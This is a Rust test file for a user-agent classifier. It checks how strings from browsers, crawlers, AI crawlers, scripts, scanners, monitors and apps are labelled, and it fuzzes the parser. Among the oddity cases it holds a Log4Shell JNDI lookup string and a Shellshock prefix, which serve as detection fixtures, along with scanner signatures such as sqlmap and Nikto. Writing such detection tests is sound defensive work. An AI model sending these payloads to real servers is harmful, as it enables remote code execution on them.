//! What user agents say, against agents of every kind and labelled ones where they are at hand.

use std::path::PathBuf;

use proptest::prelude::*;

use super::*;
use AgentType::{
    AiCrawler, App, Browser, Crawler, Feed, Headless, Monitoring, Preview, Scanner, Script, Unknown,
};

#[test]
fn programs_and_people() {
    for (text, kind, name, major) in [
        ("curl/8.5.0", Script, "curl", Some(8)),
        ("python-requests/2.32.3", Script, "python-requests", Some(2)),
        ("Python/3.12 aiohttp/3.9.1", Script, "aiohttp", Some(3)),
        ("Go-http-client/2.0", Script, "Go-http-client", Some(2)),
        ("okhttp/4.12.0", Script, "okhttp", Some(4)),
        ("hackney/1.20.1", Script, "hackney", Some(1)),
        ("acme-sync/0.3.1", Script, "acme-sync", Some(0)),
        (
            "sqlmap/1.7.8#stable (https://sqlmap.org)",
            Scanner,
            "sqlmap",
            Some(1),
        ),
        (
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
            Scanner,
            "Nikto",
            Some(2),
        ),
        ("Mozilla/5.0 zgrab/0.x", Scanner, "zgrab", Some(0)),
        ("Acme Security Scanner 2", Scanner, "Scanner", Some(2)),
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            Crawler,
            "Googlebot",
            Some(2),
        ),
        (
            "Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/about)",
            Crawler,
            "Acme",
            Some(1),
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            AiCrawler,
            "GPTBot",
            Some(1),
        ),
        ("facebookexternalhit/1.1", Preview, "facebookexternalhit", Some(1)),
        ("WhatsApp/2.23.20 A", Preview, "WhatsApp", Some(2)),
        (
            "WhatsApp/2.17.427 Android/4.4.2 Device/x",
            App,
            "WhatsApp",
            Some(2),
        ),
        (
            "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)",
            Feed,
            "subscribers",
            None,
        ),
        (
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            Monitoring,
            "UptimeRobot",
            Some(2),
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
            Headless,
            "HeadlessChrome",
            Some(120),
        ),
        (
            "Instacart/5 CFNetwork/1410.0.3 Darwin/22.6.0",
            App,
            "CFNetwork",
            Some(1410),
        ),
    ] {
        let facts = read(text.as_bytes());
        assert_eq!(facts.kind, kind, "{text}");
        assert_eq!(facts.name.as_deref(), Some(name), "{text}");
        assert_eq!(facts.major, major, "{text}");
    }
}

#[test]
fn browsers_by_product_engine_and_system() {
    let blink = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    let edge = format!("{blink} Edg/131.0.0.0");
    for (text, name, major, engine, system) in [
        (blink, "Chrome", Some(131), "Blink", "Windows"),
        (edge.as_str(), "Edge", Some(131), "Blink", "Windows"),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
            "Firefox",
            Some(133),
            "Gecko",
            "Linux",
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
            "Safari",
            Some(18),
            "WebKit",
            "iOS",
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
            "Internet Explorer",
            Some(11),
            "Trident",
            "Windows",
        ),
        (
            "Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18",
            "Opera",
            Some(12),
            "Presto",
            "Windows",
        ),
    ] {
        let facts = read(text.as_bytes());
        assert_eq!(facts.kind, Browser, "{text}");
        assert_eq!(
            (facts.name.as_deref(), facts.major),
            (Some(name), major),
            "{text}"
        );
        assert_eq!(
            (facts.engine, facts.system.as_deref()),
            (Some(engine), Some(system)),
            "{text}"
        );
        assert_eq!(facts.odd, None, "{text}");
    }
}

#[test]
fn a_devices_name_is_not_a_programs() {
    for model in [
        "CUBOT NOTE 20",
        "rubyplus",
        "MAVEN_10_PRO",
        "Spider X",
        "curl one",
    ] {
        let text = format!(
            "Mozilla/5.0 (Linux; Android 12; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
        );
        assert_eq!(read(text.as_bytes()).kind, Browser, "{model}");
    }
}

#[test]
fn oddities() {
    for (text, kind, odd) in [
        ("", Unknown, Some(Odd::Empty)),
        ("  ", Unknown, Some(Odd::Empty)),
        ("Mozilla/5.0", Unknown, Some(Odd::Bare)),
        ("Mozilla/5.0 (compatible)", Unknown, Some(Odd::Bare)),
        ("${jndi:ldap://x.example/a}", Scanner, Some(Odd::Malformed)),
        ("() { :; }; echo", Unknown, Some(Odd::Malformed)),
        ("a\tb", Unknown, Some(Odd::Malformed)),
        ("\u{fe}\u{ff}", Unknown, None),
        (
            "Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36",
            Browser,
            Some(Odd::Impossible),
        ),
        (
            "Mozilla/5.0 (compatible; MSIE 13.0; Windows NT 6.1)",
            Browser,
            Some(Odd::Impossible),
        ),
    ] {
        let facts = read(text.as_bytes());
        assert_eq!((facts.kind, facts.odd), (kind, odd), "{text}");
    }
    assert_eq!(AgentCache::new(1).facts(None).odd, Some(Odd::Absent));
}

#[test]
fn claims_are_keys_of_the_crawler_table() {
    for (text, claim) in [
        (
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            Some("bingbot"),
        ),
        ("Googlebot-Image/1.0", Some("googlebot")),
        (
            "AdsBot-Google (+http://www.google.com/adsbot.html)",
            Some("google-special"),
        ),
        (
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            Some("yandex"),
        ),
        ("NotGooglebots/1.0", None),
        ("curl/8.0", None),
    ] {
        assert_eq!(read(text.as_bytes()).claims, claim, "{text}");
        assert!(claim.is_none_or(|key| super::super::crawler::crawler(key).is_some()));
    }
}

#[test]
fn what_was_read_once_is_remembered_without_allocation() {
    let mut cache = AgentCache::new(64);
    let text = b"curl/8.5.0".as_slice();
    assert_eq!(cache.facts(Some(text)).kind, Script);
    let count = allocation_counter::measure(|| assert_eq!(cache.facts(Some(text)).kind, Script));
    assert_eq!((count.count_total, cache.misses()), (0, 1));
}

/// Labelled user agents that the rules were not made from; see the folder's own description.
#[test]
fn labelled_user_agents() {
    let file =
        std::env::var_os("AFW_CASES").map(|cases| PathBuf::from(cases).join("detect/agents.dev.jsonl"));
    let Some(text) = file.and_then(|file| std::fs::read_to_string(file).ok()) else {
        println!("skipped: AFW_CASES is unset or has no labelled user agents beside it");
        return;
    };
    let mut counts = std::collections::BTreeMap::<String, (u32, u32)>::new();
    for line in text.lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let agent = case["ua"].as_str().unwrap();
        let kind = read(agent.as_bytes()).kind;
        let count = counts
            .entry(case["class"].as_str().unwrap().to_owned())
            .or_default();
        count.1 += 1;
        if !matches!(kind, Browser | App | Unknown) {
            count.0 += 1;
        } else if case["kind"] != "benign" {
            println!("missed {} {agent}", case["class"]);
        }
    }
    println!("{counts:#?}");
    let share = |class: &str| f64::from(counts[class].0) / f64::from(counts[class].1);
    assert!(share("scanner-tool") >= 0.98 && share("script-client") >= 0.98 && share("headless") >= 0.98);
    assert!(share("browser-real") <= 0.001);
    assert!(share("ai-crawler") >= 0.95 && share("good-crawler") >= 0.95);
}

proptest! {
    #[test]
    fn any_bytes_are_read_without_panic(text in proptest::collection::vec(any::<u8>(), 0..1_500)) {
        read(&text);
    }

    #[test]
    fn any_mixture_is_read_without_panic(parts in proptest::collection::vec(
        prop_oneof!["Mozilla/5.0 ", "\\(", "\\)", "android", "bot", "curl/", "@a.b", "compatible;", "é", ".{0,4}"], 0..12,
    )) {
        read(parts.concat().as_bytes());
    }
}
